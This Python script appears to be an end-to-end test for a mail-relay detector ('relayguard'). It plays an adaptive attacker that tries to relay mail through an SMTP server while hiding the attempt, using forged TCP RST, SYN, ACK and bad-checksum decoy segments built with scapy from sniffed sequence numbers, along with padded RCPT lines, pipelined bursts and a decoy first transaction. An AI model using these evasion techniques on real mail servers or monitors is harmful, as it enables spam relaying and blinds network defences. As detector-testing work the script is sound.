#!/usr/bin/python3
"""An attacker who adapts (issue 12): one real SMTP session of its own with a
relay attempt, hidden the way it says. Every step printed as one line, as
smtp_session.py does ("<CMD> <code>", "<CMD> timeout" when the session was
cut off).

  evasion_session.py --server ADDR --src ADDR --how HOW
                     [--gw-mac MAC --iface IF] [--rcpt R] [--pause S]

HOW:
  second  a clean local transaction with a 20 KB message first (past the
          sampling budget), then the relay attempt in the connection's
          second transaction
  rst     after the greeting, a forged RST far out of the window (Linux
          ignores it), then the attempt
  syn     after the greeting, a forged SYN on the established connection
          (Linux answers with a challenge ACK), then the attempt
  ack     after the greeting, a forged pure ACK of 50,000 server bytes never
          sent, a DATA the server refuses (503), then the attempt
  pad     the RCPT line padded with 1,100 spaces (Postfix reads 2,048)
  burst   EHLO, MAIL, RCPT (a local one), DATA, the message and QUIT in one
          write before any reply (RFC 2920 forbids sending the body before
          the 354); prints "reply <code>" for each reply that comes
  decoy   after MAIL, a forged segment with a bad TCP checksum carrying a
          local RCPT (Linux drops it, Postfix never reads it), then the
          real RCPT at the same sequence number

The forged segments (scapy, at layer 2 to MAC out of IF) carry the real
connection's 4-tuple and sequence numbers, read from a capture of the
session itself. The attempt: MAIL, RCPT to a foreign domain, a pause (a
bot's), DATA and a message.
"""
import sys
import time

from smtp_session import client_arguments, connect, quit_session, step
from smtpcapture import session_seqs, smtp_capture


class Forger:
    """Sniffs the session on IF to learn its sequence numbers, forges."""

    def __init__(self, a):
        from scapy.all import conf
        conf.verb = 0
        self.a = a
        self.sniffer, self.seen = smtp_capture(a.iface, "forge")

    def forge(self, how, sport, payload=b"", sent=b""):
        from scapy.all import IP, TCP, Ether, Raw, sendp
        cseq, sseq = session_seqs(self.seen, sport, sent, "forge")
        ip = Ether(dst=self.a.gw_mac) / IP(src=self.a.src, dst=self.a.server)
        t = dict(sport=sport, dport=25)
        if how == "decoy":
            seg = TCP(flags="PA", seq=cseq, ack=sseq, chksum=0xdead,
                      **t) / Raw(payload)
        elif how == "rst":
            seg = TCP(flags="R", seq=(cseq + (1 << 30)) & 0xffffffff, **t)
        elif how == "syn":
            seg = TCP(flags="S", seq=(cseq + 123456789) & 0xffffffff, **t)
        else:
            seg = TCP(flags="A", seq=cseq, ack=(sseq + 50000) & 0xffffffff,
                      **t)
        sendp(ip / seg, iface=self.a.iface)
        print(f"forged {how}", flush=True)
        time.sleep(0.3)  # whatever Linux answers, it has answered


def transaction(sock, f, a, rcpt, pad=0, forger=None, body_kb=0):
    """MAIL, RCPT, DATA, message; False when the session was cut off."""
    mail = f"MAIL FROM:<{a.sender}>\r\n".encode()
    if step(sock, f, "MAIL", mail) is None:
        return False
    if forger and a.how == "decoy":
        # as long as the real line: the decoy covers it all
        local = "u" * max(1, len(rcpt) - len("@example.test")) + "@example.test"
        forger.forge("decoy", sock.getsockname()[1],
                     f"RCPT TO:<{local}>\r\n".encode(), mail)
    line = f"RCPT TO:<{rcpt}>" + " " * pad + "\r\n"
    code = step(sock, f, "RCPT", line.encode())
    if code is None or not code.startswith("2"):
        return code is not None
    time.sleep(a.pause)
    if step(sock, f, "DATA", b"DATA\r\n") != "354":
        return False
    text = "hello\r\n" + ("x" * 78 + "\r\n") * (body_kb * 1024 // 80)
    body = (f"From: <{a.sender}>\r\nTo: <{rcpt}>\r\nSubject: relayguard "
            f"e2e evasion\r\n\r\n{text}.\r\n").encode()
    return step(sock, f, "EOM", body) is not None


def session(a):
    forger = Forger(a) if a.how in ("rst", "syn", "ack", "decoy") else None
    conn = connect(a)
    if conn is None:
        return
    sock, f = conn
    if a.how == "burst":
        sock.sendall((f"EHLO bot.lab.test\r\nMAIL FROM:<{a.sender}>\r\n"
                      f"RCPT TO:<{a.local}>\r\nDATA\r\nSubject: burst\r\n"
                      "\r\nhello\r\n.\r\nQUIT\r\n").encode())
        while step(sock, f, "reply", b"") is not None:
            pass
        return
    if forger and a.how != "decoy":
        forger.forge(a.how, sock.getsockname()[1])
        if a.how == "ack" and step(sock, f, "DATA", b"DATA\r\n") is None:
            return
    if step(sock, f, "EHLO", b"EHLO bot.lab.test\r\n") is None:
        return
    if a.how == "second" and not transaction(sock, f, a, a.local,
                                             body_kb=20):
        return
    if not transaction(sock, f, a, a.rcpt, 1100 if a.how == "pad" else 0,
                       forger):
        return
    quit_session(sock, f)


def main():
    p = client_arguments()
    p.add_argument("--src", required=True)
    p.add_argument("--how", required=True,
                   choices=("second", "rst", "syn", "ack", "pad", "decoy",
                            "burst"))
    p.add_argument("--gw-mac")
    p.add_argument("--iface")
    p.add_argument("--local", default="user@example.test")
    p.add_argument("--rcpt", default="victim@gmail.com")
    p.add_argument("--pause", type=float, default=0.3)
    a = p.parse_args()
    if a.how in ("rst", "syn", "ack", "decoy") and not (a.gw_mac and a.iface):
        p.error(f"--how {a.how} needs --gw-mac and --iface")
    session(a)


if __name__ == "__main__":
    sys.exit(main())
